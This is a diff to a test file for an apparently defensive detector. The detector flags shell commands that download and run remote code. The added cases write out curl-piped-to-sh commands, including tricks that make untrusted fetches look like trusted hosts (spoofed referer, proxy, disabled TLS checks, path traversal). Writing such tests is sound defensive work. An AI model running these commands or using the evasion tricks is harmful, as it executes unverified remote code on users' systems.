@@ -24,12 +24,23 @@ describe('a fetched program', () => {
     `curl -s ${RAW}/a/b/main/${COMMIT}/i.sh | sh`,
     `curl -s https://example.com/raw.githubusercontent.com/a/b/${COMMIT}/i.sh | sh`,
     'curl -s https://deno.land/x/someone/i.sh | sh',
+    'curl -s -e https://get.docker.com https://example.com/x | sh',
+    'curl -s https://get.docker.com https://example.com/x | sh',
+    'curl -s -x http://example.com:80 https://get.docker.com | sh',
+    'curl -sk https://get.docker.com | sh',
+    `curl -sk ${RAW}/a/b/${COMMIT}/i.sh | sh`,
+    'curl -s https://get.docker.com/../x | sh',
+    'sudo -u me curl -so x https://example.com/x; sudo -u me ./x',
+    'curl -so x.sh https://example.com/x 2>/dev/null; bash -o pipefail x.sh',
+    'curl -s https://example.com/x 2>/dev/null > x.sh; bash x.sh',
+    'curl -so x.ts https://example.com/x; deno run x.ts',
   ])('%s', async (script) => expect(await piped(run(script))).toEqual(['HIGH']));
 
   it.each([
     'curl -so /tmp/x https://example.com/x; echo "0 /tmp/x" | sha256sum -c; /tmp/x',
     'curl -sO https://example.com/data.json\npython3 read.py data.json',
     'curl -so x.tgz https://example.com/x.tgz && tar xzf x.tgz',
+    'curl -s https://example.com/x | bash read.sh',
     './x.sh\ncurl -so x.sh https://example.com/x.sh',
     `curl -s ${RAW}/a/b/${COMMIT}/i.sh | sh`,
     `curl -sL https://github.com/a/b/raw/${COMMIT}/i.sh | sh`,
